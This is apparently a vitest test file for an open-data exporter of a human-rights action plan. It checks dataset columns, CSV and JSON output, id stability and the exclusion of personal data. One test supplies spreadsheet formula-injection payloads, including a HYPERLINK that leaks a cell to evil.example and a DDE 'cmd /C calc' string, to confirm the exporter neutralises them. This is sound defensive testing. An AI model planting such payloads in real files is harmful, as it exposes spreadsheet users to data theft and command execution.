import Papa from 'papaparse';
import { PUBLIC_CATALOGUES } from '../../server/public/i18n/index.ts';
import { describe, expect, it } from 'vitest';
import { unescapeFormula } from '../../server/import/accordFormat.ts';
import { type Cell, DATASETS, type Dataset, datasetByName, toCsv, toJson } from '../../server/public/openData.ts';
import type { PublicSnapshot } from '../../server/services/publicRecord/snapshot.ts';
import { SAMPLE_IDS, sampleSnapshot } from '../helpers/publicSnapshot.ts';

const dataset = (name: string): Dataset => {
  const d = datasetByName(name);
  if (!d) throw new Error(`no dataset ${name}`);
  return d;
};
const rowsOf = (name: string, s: PublicSnapshot = sampleSnapshot()) => dataset(name).rows(s);

/** Reads a CSV as a spreadsheet would, header first, after checking its BOM. */
function parseCsv(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** What a cell becomes in the CSV: empty for null, the number's digits, text as written. */
const asCsvText = (v: Cell) => (v === null ? '' : String(v));

const EXPECTED_COLUMNS = {
  sections: ['chapter_number', 'chapter_id', 'chapter', 'section_number', 'section_id', 'section', 'status', 'included', 'agreed_at', 'agreed_hash', 'signing_organisations', 'reservations_count', 'dissent_count'],
  actions: ['action_id', 'section_id', 'section_number', 'title', 'description', 'lead_agency', 'co_implementers', 'cso_partners', 'start', 'end', 'budget_amount', 'currency', 'funding_source', 'reported_status', 'recommendation_ids'],
  indicators: ['indicator_id', 'action_id', 'type', 'description', 'unit', 'baseline', 'target', 'baseline_value', 'baseline_year', 'target_value', 'target_year', 'data_source', 'frequency', 'latest_value', 'latest_date'],
  observations: ['indicator_id', 'action_id', 'round_id', 'round', 'date', 'value'],
  recommendations: ['recommendation_id', 'reference', 'mechanism', 'document_symbol', 'paragraph', 'recommending_states', 'position', 'kind', 'themes', 'text', 'action_ids'],
  links: ['recommendation_id', 'reference', 'action_id', 'action'],
  reports: ['round_id', 'round', 'action_id', 'status', 'narrative', 'spent_amount', 'currency', 'submitted_at', 'organisation', 'evidence_links', 'corrects'],
  assessments: ['round_id', 'round', 'target_type', 'target_id', 'organisation', 'side', 'rating', 'justification', 'evidence_links', 'updated_at'],
  matrix: ['chapter', 'section_number', 'section', 'action_id', 'action', 'lead_agency', 'timeline', 'recommendation_id', 'reference', 'recommendation', 'indicators', 'reported_status', 'government_rating', 'civil_society_ratings'],
} satisfies Record<string, string[]>;

describe('open data: the datasets and their documentation', () => {
  it('lists every dataset once, with the documented columns in order, each described', () => {
    expect(DATASETS.map((d) => d.name)).toEqual(Object.keys(EXPECTED_COLUMNS));
    for (const d of DATASETS) {
      expect(d.columns.map((c) => c.name), d.name).toEqual(EXPECTED_COLUMNS[d.name as keyof typeof EXPECTED_COLUMNS]);
      // Titled in every language of the public record.
      for (const lang of ['en', 'ru', 'be'] as const) expect(PUBLIC_CATALOGUES[lang].data.datasetTitles[d.name as keyof typeof PUBLIC_CATALOGUES.en.data.datasetTitles], `${d.name} in ${lang}`).toMatch(/^\p{Lu}/u);
      expect(d.description, d.name).toMatch(/^[A-Z].+\.$/);
      for (const c of d.columns) {
        expect(c.name, d.name).toMatch(/^[a-z]+(_[a-z]+)*$/);
        // A sentence, not a label: a data person reads it without knowing Accord.
        expect(c.description, `${d.name}.${c.name}`).toMatch(/^[A-Z"].{15,}[.)]$/);
        expect(['text', 'number', 'date', 'list', 'id']).toContain(c.type);
      }
    }
    expect(datasetByName('matrix')).toBe(DATASETS.at(-1));
    expect(datasetByName('people')).toBeUndefined();
  });

  it('gives every row exactly its dataset\'s columns, each value of its column\'s type', () => {
    for (const d of DATASETS) {
      const rows = d.rows(sampleSnapshot());
      expect(rows.length, d.name).toBeGreaterThan(0);
      for (const row of rows) {
        expect(Object.keys(row), d.name).toEqual(d.columns.map((c) => c.name));
        for (const c of d.columns) {
          const v = row[c.name];
          if (v === null) continue;
          if (c.type === 'number') expect(typeof v, `${d.name}.${c.name}`).toBe('number');
          else expect(typeof v, `${d.name}.${c.name}`).toBe('string');
          if (c.type === 'date') expect(v, `${d.name}.${c.name}`).toMatch(/^\d{4}(-Q[1-4]|-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}(\.\d{3})?Z)?)?$/);
        }
      }
    }
  });

  it('documents the codes a status, rating or position column can hold, and uses only those', () => {
    const codes = (d: string, c: string) => [...dataset(d).columns.find((x) => x.name === c)!.description.matchAll(/"([a-z_]+)"/g)].map((m) => m[1]);
    for (const [d, c] of [['actions', 'reported_status'], ['reports', 'status'], ['assessments', 'rating'], ['assessments', 'side'], ['recommendations', 'position'], ['recommendations', 'kind'], ['indicators', 'type'], ['sections', 'status'], ['matrix', 'government_rating']] as const) {
      const documented = codes(d, c);
      expect(documented.length, `${d}.${c}`).toBeGreaterThan(1);
      for (const row of rowsOf(d)) if (row[c] !== null) expect(documented, `${d}.${c}`).toContain(row[c]);
    }
  });
});

describe('open data: what the rows say', () => {
  it('numbers sections as the outline does and counts signatures, reservations and dissent', () => {
    const rows = rowsOf('sections');
    expect(rows.map((r) => [r.chapter_number, r.section_number, r.included])).toEqual([
      [1, '1.1', 'true'],
      [1, '1.2', 'false'],
      [2, '2.1', 'true'],
    ]);
    expect(rows[0]).toMatchObject({
      signing_organisations: 'Ministry of Justice; Legal Aid Network; Citizens Forum (unverified)',
      reservations_count: 1,
      dissent_count: 0,
      agreed_hash: 'b'.repeat(64),
    });
    expect(rows[1]).toMatchObject({ signing_organisations: null, agreed_at: null, dissent_count: 1 });
  });

  it('joins lists with "; " and leaves what is not given empty', () => {
    const [judges, shelters] = rowsOf('actions');
    expect(judges).toMatchObject({ co_implementers: 'Supreme Court; Judicial Training Centre', recommendation_ids: `${SAMPLE_IDS.recommendations[0]}; ${SAMPLE_IDS.recommendations[1]}`, budget_amount: 120000, reported_status: 'in_progress', section_number: '1.1' });
    expect(shelters).toMatchObject({ co_implementers: null, budget_amount: null, end: null, reported_status: null, recommendation_ids: null, section_number: '2.1' });
  });

  it('gives each indicator its latest value and each observation its round', () => {
    const [trained, pending, shelters] = rowsOf('indicators');
    expect(trained).toMatchObject({ baseline_value: 12, baseline_year: 2024, target_value: 80, target_year: 2028, latest_value: 41.5, latest_date: '2027-06-30' });
    expect(pending).toMatchObject({ baseline: 'about 300', baseline_value: null, latest_value: null, latest_date: null });
    expect(shelters).toMatchObject({ baseline_year: null, latest_value: 3 });
    expect(rowsOf('observations').map((o) => [o.indicator_id, o.round, o.date, o.value])).toEqual([
      [SAMPLE_IDS.indicators[0], '2027 mid-term review', '2026-12-31', 25],
      [SAMPLE_IDS.indicators[0], '2027 mid-term review', '2027-06-30', 41.5],
      [SAMPLE_IDS.indicators[2], '2027 mid-term review', '2027-05-15', 3],
    ]);
  });

  it('lists every recommendation, the unanswered one with no actions, and one link per pair', () => {
    const [r1, r2, r3] = SAMPLE_IDS.recommendations;
    expect(rowsOf('recommendations').map((r) => [r.recommendation_id, r.action_ids])).toEqual([
      [r1, SAMPLE_IDS.actions[0]],
      [r2, SAMPLE_IDS.actions[0]],
      [r3, null],
    ]);
    expect(rowsOf('recommendations')[0]).toMatchObject({ recommending_states: 'Norway; Chile', themes: 'Administration of justice; Fair trial' });
    // A publication made before pledges were told apart holds recommendations only; a pledge says so.
    expect(rowsOf('recommendations').map((r) => r.kind)).toEqual(['recommendation', 'recommendation', 'recommendation']);
    const withPledge = sampleSnapshot();
    withPledge.recommendations[2] = { ...withPledge.recommendations[2]!, kind: 'pledge' };
    expect(rowsOf('recommendations', withPledge).map((r) => r.kind)).toEqual(['recommendation', 'recommendation', 'pledge']);
    expect(rowsOf('links').map((l) => [l.recommendation_id, l.reference, l.action_id])).toEqual([
      [r1, 'A/HRC/46/5, para. 112.3', SAMPLE_IDS.actions[0]],
      [r2, 'CAT/C/FRE/CO/2, para. 9', SAMPLE_IDS.actions[0]],
    ]);
  });

  it('gives the round\'s report and assessments with their organisations and evidence links', () => {
    expect(rowsOf('reports')).toEqual([
      expect.objectContaining({ round_id: SAMPLE_IDS.round, action_id: SAMPLE_IDS.actions[0], status: 'in_progress', spent_amount: 45000, organisation: 'Ministry of Justice', evidence_links: 'https://example.org/training-report' }),
    ]);
    expect(rowsOf('assessments').map((a) => [a.target_type, a.target_id, a.rating, a.evidence_links])).toEqual([
      ['recommendation', SAMPLE_IDS.recommendations[0], 'partially_implemented', 'https://example.org/monitoring-2027; https://example.org/court-watch'],
      ['action', SAMPLE_IDS.actions[1], 'not_implemented', null],
    ]);
  });

  it('makes the matrix one row per action and recommendation, and one row for an action that answers none', () => {
    const rows = rowsOf('matrix');
    expect(rows.map((r) => [r.action_id, r.recommendation_id])).toEqual([
      [SAMPLE_IDS.actions[0], SAMPLE_IDS.recommendations[0]],
      [SAMPLE_IDS.actions[0], SAMPLE_IDS.recommendations[1]],
      [SAMPLE_IDS.actions[1], null],
    ]);
    expect(rows[0]).toMatchObject({
      chapter: 'Justice',
      timeline: '2026 – 2028-Q4',
      reference: 'A/HRC/46/5, para. 112.3',
      indicators: 'Share of judges trained, 12 (2024) → 80 (2028)\nPre-trial detention cases pending over a year, about 300 → —',
      reported_status: 'in_progress',
      government_rating: 'partially_implemented',
      civil_society_ratings: 'Legal Aid Network: partially_implemented',
    });
    expect(rows[1]).toMatchObject({ government_rating: 'no_information', civil_society_ratings: null });
    expect(rows[2]).toMatchObject({ timeline: '2026-03-01 – —', reference: null, recommendation: null, government_rating: null, reported_status: null, civil_society_ratings: 'Women’s Rights Centre: not_implemented' });
  });

  it('before any reporting round the matrix has no statuses or ratings, and no observations exist', () => {
    const s = sampleSnapshot();
    s.rounds = [];
    for (const a of s.chapters.flatMap((c) => c.sections.flatMap((x) => x.actions))) {
      a.reportedStatus = null;
      for (const i of a.indicators) i.values = [];
    }
    for (const r of dataset('matrix').rows(s)) expect([r.reported_status, r.government_rating, r.civil_society_ratings]).toEqual([null, null, null]);
    expect(dataset('observations').rows(s)).toEqual([]);
    // The file is still there, with its header: a tracker's import does not break.
    expect(parseCsv(toCsv(dataset('observations'), s))).toEqual([EXPECTED_COLUMNS.observations]);
  });

  it('keeps ids stable from one publication to the next', () => {
    const first = sampleSnapshot();
    const next = sampleSnapshot();
    next.publishedAt = '2028-01-10T08:00:00.000Z';
    next.chapters[0]!.sections[0]!.actions[0]!.title = 'Train all judges on fair-trial guarantees';
    next.recommendations[0]!.text = 'Guarantee the full independence of the judiciary.';
    for (const d of DATASETS) {
      const ids = (s: PublicSnapshot) => d.rows(s).map((r) => d.columns.filter((c) => c.type === 'id').map((c) => r[c.name]));
      expect(ids(next), d.name).toEqual(ids(first));
    }
    const allIds = [...SAMPLE_IDS.chapters, ...SAMPLE_IDS.sections, ...SAMPLE_IDS.actions, ...SAMPLE_IDS.indicators, ...SAMPLE_IDS.recommendations, SAMPLE_IDS.round];
    for (const d of DATASETS) for (const r of d.rows(first)) for (const c of d.columns) if (c.type === 'id' && r[c.name] !== null) expect(allIds, `${d.name}.${c.name}`).toContain(r[c.name]);
  });
});

describe('open data: CSV and JSON files', () => {
  it('writes CSV as UTF-8 with a BOM, CRLF line ends and the column names as header', () => {
    for (const d of DATASETS) {
      const csv = toCsv(d, sampleSnapshot());
      expect(csv.startsWith('\uFEFF' + d.columns.map((c) => c.name).join(',') + '\r\n'), d.name).toBe(true);
      expect(csv.endsWith('\r\n'), d.name).toBe(true);
      // Every line break outside a quoted cell is CRLF (multi-line cells may hold LF).
      const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '');
      expect(outsideQuotes.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    }
  });

  it('parses back to the same rows', () => {
    for (const d of DATASETS) {
      const s = sampleSnapshot();
      const [header, ...data] = parseCsv(toCsv(d, s));
      expect(header, d.name).toEqual(d.columns.map((c) => c.name));
      expect(data, d.name).toEqual(d.rows(s).map((row) => d.columns.map((c) => asCsvText(row[c.name] ?? null))));
    }
  });

  it('keeps hostile text inert in a spreadsheet and loses none of it', () => {
    const s = sampleSnapshot();
    const action = s.chapters[0]!.sections[0]!.actions[0]!;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rCarriage', "'=already quoted", 'Quote " and, comma\nnew line'];
    const put = [
      (v: string) => (action.title = v),
      (v: string) => (action.description = v),
      (v: string) => (action.leadAgency = v),
      (v: string) => (action.fundingSource = v),
      (v: string) => (s.recommendations[0]!.text = v),
      (v: string) => (s.rounds[0]!.reports[0]!.narrative = v),
      (v: string) => (s.rounds[0]!.assessments[0]!.justification = v),
      (v: string) => (s.chapters[0]!.title = v),
    ];
    hostile.forEach((v, n) => put[n]!(v));
    action.coImplementers = ['=1+1', 'Plain'];
    s.rounds[0]!.reports[0]!.organisation = '@evil';
    const cells = DATASETS.flatMap((d) => parseCsv(toCsv(d, s)).flat());
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain("'=1+1; Plain");
    expect(cells).toContain("'@evil");
    // Removing the one quote gives back exactly what was published, so the data loses nothing.
    const [header, ...data] = parseCsv(toCsv(dataset('actions'), s));
    expect(header).toEqual(EXPECTED_COLUMNS.actions);
    expect(data.map((r) => r.map(unescapeFormula))).toEqual(dataset('actions').rows(s).map((row) => EXPECTED_COLUMNS.actions.map((c) => asCsvText(row[c] ?? null))));
    // JSON is data, not a spreadsheet: it keeps the text exactly.
    expect(JSON.parse(toJson(dataset('actions'), s)).rows[0].title).toBe(hostile[0]);
  });

  it('keeps negative numbers numbers (a sign is not a formula when the cell is a number)', () => {
    const s = sampleSnapshot();
    s.chapters[0]!.sections[0]!.actions[0]!.indicators[0]!.values[0]!.value = -4.5;
    const [, first] = parseCsv(toCsv(dataset('observations'), s));
    expect(first!.at(-1)).toBe('-4.5');
  });

  it('writes JSON as { dataset, publication, publishedAt, columns, rows }', () => {
    for (const d of DATASETS) {
      const s = sampleSnapshot();
      const json = JSON.parse(toJson(d, s)) as Record<string, unknown>;
      expect(Object.keys(json), d.name).toEqual(['dataset', 'publication', 'publishedAt', 'columns', 'rows']);
      expect(json.publication).toBe('adopted plan');
      expect(json.dataset).toBe(d.name);
      expect(json.publishedAt).toBe(s.publishedAt);
      expect(json.columns).toEqual(d.columns.map(({ name, description, type }) => ({ name, description, type })));
      expect(json.rows).toEqual(d.rows(s));
    }
  });
});

describe('open data: organisations, never people', () => {
  // A snapshot's objects could one day carry more than the types say (an older or newer snapshot
  // version, a careless spread upstream): the datasets pick their fields, so none of it gets out.
  function snapshotWithStrayPeople(): PublicSnapshot {
    const s = sampleSnapshot();
    const person = { name: 'Ivan Petrov', email: 'ivan.petrov@example.org' };
    const stray = (o: object) => Object.assign(o, { author: person, authorName: person.name, email: person.email, signerName: person.name });
    stray(s.plan);
    for (const c of s.chapters) {
      stray(c);
      for (const x of c.sections) {
        stray(x);
        x.signers.forEach(stray);
        x.reservations.forEach(stray);
        x.dissent.forEach(stray);
        for (const a of x.actions) {
          stray(a);
          a.indicators.forEach(stray);
          a.indicators.flatMap((i) => i.values).forEach(stray);
        }
      }
    }
    s.recommendations.forEach(stray);
    for (const r of s.rounds) {
      stray(r);
      r.reports.forEach(stray);
      r.assessments.forEach(stray);
    }
    return s;
  }

  it('has no person\'s name or e-mail in any row, column or file', () => {
    const s = snapshotWithStrayPeople();
    for (const d of DATASETS) {
      const files = toCsv(d, s) + toJson(d, s);
      expect(files, d.name).not.toContain('Ivan Petrov');
      expect(files, d.name).not.toContain('ivan.petrov@example.org');
      expect(files, d.name).not.toMatch(/[\w.+-]+@[\w-]+\.[\w.]+/);
      for (const c of d.columns) expect(c.name, d.name).not.toMatch(/author|email|signer_name|person/);
    }
  });
});
